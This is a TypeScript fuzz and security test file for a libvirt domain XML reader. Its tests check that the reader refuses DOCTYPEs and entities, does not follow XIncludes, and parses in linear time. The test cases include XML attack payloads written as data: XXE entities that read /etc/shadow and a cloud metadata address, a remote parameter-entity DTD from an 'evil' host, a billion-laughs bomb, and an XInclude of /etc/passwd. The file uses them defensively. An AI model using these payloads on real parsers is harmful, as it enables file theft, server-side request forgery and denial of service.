// The domain XML reader under attack: mutations of libvirt's own domain XML, random markup,
// every way of smuggling a DTD or an entity in, and sizes that would expose quadratic work.
// Any input gives a config or a ConfigError at a line inside the text; DTDs and entities are
// refused before parsing, quickly, saying so.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ConfigError, type Diagnostic } from '../src/core/errors.js';
import { xmlToModel } from '../parsers/xml/read.js';
import { modelToXml } from '../parsers/xml/write.js';
import { HAVE_CORPUS } from './support/txl.js';
import { XML_PIECES, corpusFiles, expectValidDiagnostics, mutatedFrom, params, runs, scalingRatio } from './support/mutate.js';

const FILE = 'dom.xml';

function read(text: string): { ok: boolean; diags: Diagnostic[] } {
  let diags: Diagnostic[];
  let ok = false;
  try {
    const r = xmlToModel(text, FILE);
    diags = r.warnings;
    ok = true;
    // what reads must write back out
    expect(typeof modelToXml(r.config)).toBe('string');
  } catch (e) {
    if (!(e instanceof ConfigError)) throw new Error(`not a ConfigError for ${JSON.stringify(text.slice(0, 600))}: ${(e as Error)?.stack ?? e}`);
    expect(e.diagnostics.some((d) => d.severity === 'error')).toBe(true);
    diags = e.diagnostics;
  }
  expectValidDiagnostics(diags, { [FILE]: text }, `input ${JSON.stringify(text.length > 600 ? text.slice(0, 600) + '...' : text)}`);
  return { ok, diags };
}

function refused(text: string, pattern: RegExp): ConfigError {
  const t0 = performance.now();
  let err: unknown;
  try {
    xmlToModel(text, FILE);
  } catch (e) {
    err = e;
  }
  expect(performance.now() - t0, 'refused quickly').toBeLessThan(1000);
  expect(err).toBeInstanceOf(ConfigError);
  const e = err as ConfigError;
  expect(e.message).toMatch(pattern);
  expectValidDiagnostics(e.diagnostics, { [FILE]: text }, 'refusal');
  return e;
}

const MIN = `<domain type='xen'>\n  <name>g</name>\n  <memory>524288</memory>\n  <os><type>xen</type></os>\n</domain>\n`;
const xmls = [...corpusFiles('libvirt-xl', ['.xml']), ...corpusFiles('libvirt-libxl-json', ['.xml'])];

describe.skipIf(!HAVE_CORPUS || xmls.length === 0)('domain XML reader: mutations of libvirt\'s domain XML', () => {
  it(`${xmls.length} corpus documents, mutated`, () => {
    let accepted = 0;
    fc.assert(fc.property(mutatedFrom(xmls, XML_PIECES), ([, t]) => { if (read(t).ok) accepted++; }), params('xml-corpus-mutations', runs(600)));
    expect(accepted).toBeGreaterThan(0);
  });
});

describe('domain XML reader: random markup', () => {
  const tag = fc.constantFrom('domain', 'name', 'memory', 'os', 'type', 'devices', 'disk', 'source', 'target', 'interface', 'vcpu', 'x', 'cpu', 'features');
  const attr = fc.tuple(fc.constantFrom('type', 'unit', 'file', 'dev', 'bus', 'placement', 'mode', 'x'), fc.constantFrom('xen', 'KiB', 'hvm', '/x', 'xvda', '1', '', '&amp;', '-1', 'static')).map(([k, v]) => ` ${k}='${v}'`);
  const elem: fc.Arbitrary<string> = fc.letrec<{ e: string }>((tie) => ({
    e: fc.oneof(
      { depthSize: 'small' },
      fc.constantFrom('text', '1024', '', 'xen', 'hvm', '&lt;'),
      fc.tuple(tag, fc.array(attr, { maxLength: 3 }), fc.array(tie('e'), { maxLength: 4 })).map(([t, as, kids]) => `<${t}${as.join('')}>${kids.join('')}</${t}>`),
    ),
  })).e;
  it('documents built from libvirt\'s element names', () => {
    fc.assert(fc.property(elem, (body) => void read(`<domain type='xen'>${body}</domain>`)), params('xml-random-elements', runs(500)));
  });
  it('random characters', () => {
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...`<>/="'&;!?[]-ab x\n`.split('')), maxLength: 60 }), (t) => void read(t)), params('xml-random-chars', runs(1000)));
  });
});

describe('domain XML reader: DTDs, entities and other smuggling are refused quickly', () => {
  const lol = (levels: number) => {
    const l = ['<?xml version="1.0"?>', '<!DOCTYPE lolz [', '<!ENTITY lol "lol">'];
    for (let i = 1; i <= levels; i++) l.push(`<!ENTITY lol${i} "${`&lol${i - 1 || ''};`.repeat(10)}">`);
    l.push(']>', `<domain type='xen'><name>&lol${levels};</name></domain>`);
    return l.join('\n');
  };
  it.each([
    ['a DOCTYPE', `<!DOCTYPE domain>\n${MIN}`, /DOCTYPE/],
    ['a DOCTYPE after a comment and a PI', `<?xml version="1.0"?>\n<!-- x -->\n<!DOCTYPE domain SYSTEM "http://evil/x.dtd">\n${MIN}`, /DOCTYPE/],
    ['a lower-case doctype', `<!doctype domain>\n${MIN}`, /markup declaration|DOCTYPE/],
    ['an external entity (XXE, file)', `<!DOCTYPE d [ <!ENTITY x SYSTEM "file:///etc/shadow"> ]>\n<domain type='xen'><name>&x;</name></domain>`, /DOCTYPE/],
    ['an external entity (XXE, URL)', `<!DOCTYPE d [ <!ENTITY x PUBLIC "-//x" "http://169.254.169.254/"> ]>\n<domain type='xen'><name>&x;</name></domain>`, /DOCTYPE/],
    ['a parameter entity', `<!DOCTYPE d [ <!ENTITY % p SYSTEM "http://evil/p.dtd"> %p; ]>\n${MIN}`, /DOCTYPE/],
    ['billion laughs', lol(9), /DOCTYPE/],
    ['an entity declaration without a DOCTYPE', `<!ENTITY a "b">\n${MIN}`, /entity declarations are not accepted/],
    ['an ELEMENT declaration', `<!ELEMENT domain ANY>\n${MIN}`, /markup declaration/],
    ['an undeclared entity reference', MIN.replace('<name>g</name>', '<name>&xxe;</name>'), /entity reference '&xxe;' is not accepted/],
    ['a reference in an attribute', MIN.replace("type='xen'", "type='&xxe;'"), /entity reference/],
    ['a character reference to NUL', MIN.replace('<name>g</name>', '<name>&#0;</name>'), /not a valid character/],
  ])('%s', (_what, text, pattern) => void refused(text, pattern));

  it('a DOCTYPE 1 MB into the document is still found, and in linear time', () => {
    const text = MIN.replace('</domain>', `${'<!-- padding -->\n'.repeat(60000)}</domain>`).replace(/^/, '') + '<!DOCTYPE x>';
    const e = refused(text, /DOCTYPE/);
    expect(e.diagnostics[0].line).toBe(text.split('\n').length);
  });

  it('an XInclude is not followed: it stays an unknown element', () => {
    const r = read(MIN.replace('</domain>', `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/></domain>`));
    expect(JSON.stringify(r)).not.toContain('root:');
  });
});

describe('domain XML reader: linear time', () => {
  const shapes: [string, (n: number) => string][] = [
    ['many unknown attributes on one element', (n) => `<domain type='xen' ${Array.from({ length: Math.ceil(n / 12) }, (_, i) => `a${i}='1'`).join(' ')}><name>g</name><os><type>xen</type></os></domain>`],
    ['many unknown elements', (n) => `<domain type='xen'><name>g</name><os><type>xen</type></os>${'<x a="1"/>\n'.repeat(Math.ceil(n / 11))}</domain>`],
    ['one long text', (n) => `<domain type='xen'><name>g</name><description>${'a'.repeat(n)}</description><os><type>xen</type></os></domain>`],
    ['many character references', (n) => `<domain type='xen'><name>g</name><description>${'&#65;&amp;'.repeat(Math.ceil(n / 10))}</description><os><type>xen</type></os></domain>`],
    ['deep nesting', (n) => `<domain type='xen'>${'<a>'.repeat(Math.ceil(n / 7))}${'</a>'.repeat(Math.ceil(n / 7))}</domain>`],
  ];
  it.each(shapes)('%s: 1 MB costs < 30x 100 KB', (what, make) => {
    const r = scalingRatio('parsers/xml/read.ts', 'xmlToModel', make(100_000), make(1_000_000), [FILE]);
    console.log(`[fuzz] xml ${what}: 100 KB ${r.small.toFixed(1)} ms, 1 MB ${r.big.toFixed(1)} ms, ratio ${r.ratio.toFixed(1)}`);
    expect(r.ratio).toBeLessThan(30);
  });
});
